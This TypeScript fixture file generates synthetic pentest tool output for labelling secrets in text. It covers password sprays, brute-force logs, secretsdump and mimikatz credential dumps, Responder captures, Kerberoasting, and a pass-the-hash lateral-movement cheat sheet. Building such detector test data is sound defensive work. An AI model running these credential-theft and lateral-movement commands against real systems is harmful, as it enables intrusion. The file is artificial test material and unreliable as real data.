// Output of offensive tools as it lands in notes and reports: netexec/crackmapexec, hydra, medusa, impacket,
// mimikatz, LaZagne, sqlmap dumps, nmap scripts, Metasploit creds tables. Cleartext passwords are labels; the hashes,
// SIDs and challenge responses beside them are not.
import type { RealWorldDoc } from '../types';
import { sDoc, S } from './secopsValues';

export const SECOPS_TOOL_OUTPUT_DOCS: RealWorldDoc[] = [
  sDoc(
    'secops-netexec-spray-log',
    ['logs-and-output', 'command-line', 'precision'],
    'loot/corp/nxc-smb-spray.log',
    (k) => `$ nxc smb targets.txt -u users.txt -p '${k.u('Winter2026!')}' --continue-on-success
SMB         10.10.1.10      445    DC01             [*] Windows Server 2022 Build 20348 x64 (name:DC01) (domain:corp.local) (signing:True) (SMBv1:False)
SMB         10.10.1.10      445    DC01             [-] corp.local\\a.meyer:${k.u('Winter2026!')} STATUS_LOGON_FAILURE
SMB         10.10.1.10      445    DC01             [+] corp.local\\t.schulz:${k.hpw()}
SMB         10.10.1.21      445    FS01             [+] corp.local\\svc_scan:${k.spw()} (Pwn3d!)
SMB         10.10.1.22      445    SQL01            [-] corp.local\\svc_scan:${k.n(S.mask('Passw0rd'))} STATUS_ACCOUNT_LOCKED_OUT
SMB         10.10.1.23      445    WS114            [+] corp.local\\Administrator:${k.n(S.ntlm(k.g))} (Pwn3d!)
`,
  ),
  sDoc(
    'secops-hydra-ssh-output',
    ['logs-and-output', 'command-line', 'precision'],
    'notes/ext-pentest/hydra-ssh.txt',
    (k) => `# hydra -L users.txt -P /usr/share/wordlists/rockyou.txt ssh://${S.pubIp(k.g)} -t 4
Hydra v9.5 (c) 2023 by van Hauser/THC & David Maciejak - Please do not use in military or secret service organizations
[DATA] max 4 tasks per 1 server, overall 4 tasks, 57377208 login tries (l:4/p:14344402), ~14344302 tries per task
[DATA] attacking ssh://${S.pubIp(k.g)}:22/
[STATUS] 412.00 tries/min, 412 tries in 00:01h
[22][ssh] host: ${S.pubIp(k.g)}   login: deploy   password: ${k.hpw()}
[22][ssh] host: ${S.pubIp(k.g)}   login: backup   password: ${k.hpw()}
1 of 1 target successfully completed, 2 valid passwords found
Hydra (https://github.com/vanhauser-thc/thc-hydra) finished
`,
  ),
  sDoc(
    'secops-medusa-ftp',
    ['logs-and-output', 'precision'],
    'notes/ext-pentest/medusa-ftp.log',
    (k) => `Medusa v2.2 [http://www.foofus.net] (C) JoMo-Kun / Foofus Networks
ACCOUNT CHECK: [ftp] Host: 10.0.4.7 (1 of 1, 0 complete) User: anonymous (1 of 3, 0 complete) Password: ${k.u('anonymous@')} (1 of 5 complete)
ACCOUNT FOUND: [ftp] Host: 10.0.4.7 User: anonymous Password: ${k.u('anonymous@')} [SUCCESS]
ACCOUNT CHECK: [ftp] Host: 10.0.4.7 (1 of 1, 0 complete) User: scanner (2 of 3, 1 complete) Password: ${k.n('123456')} (1 of 5 complete)
ACCOUNT FOUND: [ftp] Host: 10.0.4.7 User: scanner Password: ${k.hpw()} [SUCCESS]
ACCOUNT FOUND: [ftp] Host: 10.0.4.7 User: xerox Password: ${k.gpw()} [SUCCESS]
`,
  ),
  sDoc('secops-impacket-secretsdump', ['logs-and-output', 'command-line', 'precision'], 'loot/corp/secretsdump-dc01.txt', (k) => {
    const pw = S.cleanPw(k.g);
    return `$ impacket-secretsdump 'corp.local/svc_backup:${k.s('password', pw)}@10.10.1.10' -just-dc-ntlm
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies

[*] Dumping Domain Credentials (domain\\uid:rid:lmhash:nthash)
[*] Using the DRSUAPI method to get NTDS.DIT secrets
Administrator:500:aad3b435b51404eeaad3b435b51404ee:${k.n(S.ntlm(k.g))}:::
Guest:501:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::
krbtgt:502:aad3b435b51404eeaad3b435b51404ee:${k.n(S.ntlm(k.g))}:::
corp.local\\t.schulz:1104:aad3b435b51404eeaad3b435b51404ee:${k.n(S.ntlm(k.g))}:::
[*] Kerberos keys grabbed
krbtgt:aes256-cts-hmac-sha1-96:${k.n(S.sha256(k.g))}
[*] ClearText passwords grabbed
corp.local\\svc_legacy:CLEARTEXT:${k.gpw()}
[*] Cleaning up...
`;
  }),
  sDoc(
    'secops-mimikatz-logonpasswords',
    ['logs-and-output', 'precision'],
    'loot/ws114/mimikatz.txt',
    (k) => `mimikatz # sekurlsa::logonpasswords

Authentication Id : 0 ; 4418862 (00000000:0043702e)
Session           : Interactive from 2
User Name         : h.vogel
Domain            : CORP
Logon Server      : DC01
SID               : ${k.n(`S-1-5-21-${k.g.digits(10)}-${k.g.digits(10)}-${k.g.digits(9)}-1187`)}
        msv :
         [00000003] Primary
         * Username : h.vogel
         * Domain   : CORP
         * NTLM     : ${k.n(S.ntlm(k.g))}
         * SHA1     : ${k.n(S.sha1(k.g))}
        wdigest :
         * Username : h.vogel
         * Domain   : CORP
         * Password : ${k.hpw()}
        kerberos :
         * Username : h.vogel
         * Domain   : CORP.LOCAL
         * Password : ${k.n('(null)')}
        credman :
         [00000000]
         * Username : CORP\\adm_hvogel
         * Domain   : jump01.corp.local
         * Password : ${k.gpw()}
`,
  ),
  sDoc(
    'secops-lazagne-output',
    ['logs-and-output', 'precision'],
    'loot/ws207/lazagne-all.txt',
    (k) => `|====================================================================|
|                        The LaZagne Project                         |
|====================================================================|

########## User: m.klein ##########

------------------- Chromium Browsers passwords -----------------

[+] Password found !!!
URL: https://intranet.corp.local/login
Login: m.klein
Password: ${k.hpw()}

[+] Password found !!!
URL: https://portal.payroll-provider.example/
Login: m.klein@corp.example
Password: ${k.pw()}

------------------- Winscp passwords -----------------

[+] Password found !!!
URL: sftp01.corp.local
Login: upload
Password: ${k.gpw()}
Port: 22

------------------- Wifi passwords -----------------

[+] Password found !!!
SSID: CORP-Guest
Password: ${k.hpw()}

[+] 4 passwords have been found.
elapsed time = 3.81
`,
  ),
  sDoc('secops-sqlmap-users-dump', ['logs-and-output', 'precision'], 'notes/webapp/sqlmap-dump-users.txt', (k) => {
    const rows = ['admin', 'editor', 'j.smith', 'support'].map((u) => `| ${String(k.g.digits(2))} | ${u.padEnd(8)} | ${k.n(S.md5(k.g))} (${u === 'editor' || u === 'support' ? k.hpw() : k.n('-')}) |`);
    return `Database: shopdb
Table: users
[4 entries]
+----+----------+---------------------------------------------------+
| id | username | password                                          |
+----+----------+---------------------------------------------------+
${rows.join('\n')}
+----+----------+---------------------------------------------------+

[14:22:07] [INFO] table 'shopdb.users' dumped to CSV file '/home/kali/.local/share/sqlmap/output/shop.example/dump/shopdb/users.csv'
[14:22:07] [INFO] cracked password '${k.n('(see table)')}' via dictionary attack (md5_generic_passwd)
Table: api_settings
[1 entry]
+----+--------------+--------------------------------------------+
| id | name         | value                                      |
+----+--------------+--------------------------------------------+
| 1  | payment_key  | ${k.prov('Stripe', S.stripeLive(k.g))} |
+----+--------------+--------------------------------------------+
`;
  }),
  sDoc(
    'secops-nmap-brute-scripts',
    ['logs-and-output', 'precision'],
    'scans/2026-03-10/nmap-brute.nmap',
    (k) => `# Nmap 7.95 scan initiated Tue Mar 10 09:14:03 2026 as: nmap -sV --script "mysql-brute,ftp-anon,snmp-brute,http-default-accounts" -oA nmap-brute 10.0.5.0/24
Nmap scan report for db02.corp.local (10.0.5.12)
PORT     STATE SERVICE VERSION
3306/tcp open  mysql   MySQL 8.0.36
| mysql-brute:
|   Accounts:
|     root:${k.hpw()} - Valid credentials
|_  Statistics: Performed 5012 guesses in 24 seconds, average tps: 208.8
| ssl-cert: Subject: commonName=MySQL_Server_8.0.36_Auto_Generated_Server_Certificate
| SHA-1: ${k.n(
      S.sha1(k.g)
        .replace(/(.{4})/g, '$1 ')
        .trim(),
    )}

Nmap scan report for mon01.corp.local (10.0.5.40)
161/udp open  snmp
| snmp-brute:
|_  ${k.s('password', `${k.g.pick(['monitor', 'netops', 'secret'])}${k.g.digits(3)}`)} - Valid credentials
8080/tcp open  http    Apache Tomcat 9.0.80
| http-default-accounts:
|   [Apache Tomcat] at /manager/html/
|_    ${k.u('tomcat:s3cret')}
| ssl-enum-ciphers: JARM ${k.n(S.jarm(k.g))}
`,
  ),
  sDoc(
    'secops-msf-creds-table',
    ['logs-and-output', 'command-line', 'precision'],
    'notes/lab/msf-session.txt',
    (k) => `msf6 > use auxiliary/scanner/smb/smb_login
msf6 auxiliary(scanner/smb/smb_login) > set RHOSTS 10.0.7.0/24
msf6 auxiliary(scanner/smb/smb_login) > set SMBUser svc_deploy
msf6 auxiliary(scanner/smb/smb_login) > set SMBPass ${k.spw()}
msf6 auxiliary(scanner/smb/smb_login) > run
[+] 10.0.7.31:445 - 10.0.7.31:445 - Success: '.\\svc_deploy:(see above)' Administrator
msf6 auxiliary(scanner/smb/smb_login) > creds
Credentials
===========

host        origin      service        public       private                                                              realm  private_type
----        ------      -------        ------       -------                                                              -----  ------------
10.0.7.31   10.0.7.31   445/tcp (smb)  svc_deploy   (same)                                                                      Password
10.0.7.35   10.0.7.35   445/tcp (smb)  Administrator aad3b435b51404eeaad3b435b51404ee:${k.n(S.ntlm(k.g))}         NTLM hash
10.0.7.40   10.0.7.40   5432/tcp (pg)  postgres     ${k.hpw()}                                                                  Password
`,
  ),
  sDoc(
    'secops-responder-log',
    ['logs-and-output', 'precision'],
    'loot/corp/Responder-Session.log',
    (k) => `[*] [NBT-NS] Poisoned answer sent to 10.10.3.55 for name FILESRV (service: File Server)
[*] [LLMNR]  Poisoned answer sent to 10.10.3.55 for name filesrv
[SMB] NTLMv2-SSP Client   : 10.10.3.55
[SMB] NTLMv2-SSP Username : CORP\\p.wagner
[SMB] NTLMv2-SSP Hash     : ${k.u(S.netntlmv2(k.g, 'p.wagner', 'CORP'))}
[HTTP] Basic Client   : 10.10.3.61
[HTTP] Basic Username : scanner
[HTTP] Basic Password : ${k.hpw()}
[FTP] Cleartext Client   : 10.10.3.70
[FTP] Cleartext Username : printer
[FTP] Cleartext Password : ${k.gpw()}
[*] Skipping previously captured hash for CORP\\p.wagner
`,
  ),
  sDoc(
    'secops-kerbrute-getuserspns',
    ['logs-and-output', 'command-line', 'precision'],
    'loot/corp/roast.txt',
    (k) => `$ GetUserSPNs.py corp.local/t.schulz:'${k.hpw()}' -dc-ip 10.10.1.10 -request -outputfile roast.hashes
ServicePrincipalName                Name       MemberOf                                   PasswordLastSet
----------------------------------  ---------  -----------------------------------------  --------------------------
MSSQLSvc/sql01.corp.local:1433      svc_sql    CN=SQL Admins,OU=Groups,DC=corp,DC=local   2019-04-11 08:21:44.120871
HTTP/intranet.corp.local            svc_web                                               2021-09-02 13:10:09.448100

${k.n(S.krb5tgs(k.g, 'MSSQLSvc/sql01.corp.local:1433', 'svc_sql'))}

$ GetNPUsers.py corp.local/ -usersfile users.txt -no-pass -dc-ip 10.10.1.10
${k.n(S.asrep(k.g, 'old.scanner'))}
[-] User a.meyer doesn't have UF_DONT_REQUIRE_PREAUTH set
`,
  ),
  sDoc(
    'secops-evilwinrm-history',
    ['command-line', 'precision'],
    'notes/corp/lateral-movement.md',
    (k) => `## Lateral movement cheatsheet (this engagement)

\`\`\`
evil-winrm -i 10.10.1.21 -u svc_scan -p '${k.spw()}'
evil-winrm -i 10.10.1.23 -u Administrator -H ${k.n(S.ntlm(k.g))}
xfreerdp /v:10.10.1.30 /u:CORP\\\\adm_hvogel /p:'${k.spw()}' /cert:ignore /dynamic-resolution
psexec.py corp.local/adm_hvogel@10.10.1.31 -hashes :${k.n(S.ntlm(k.g))}
wmiexec.py 'corp.local/t.schulz:${k.spw()}@10.10.1.40'
smbclient //10.10.1.21/IT$ -U 'corp.local/svc_scan%${k.spw()}'
\`\`\`

Template for new hosts: \`evil-winrm -i <ip> -u <user> -p ${k.ph()}\`
`,
  ),
];
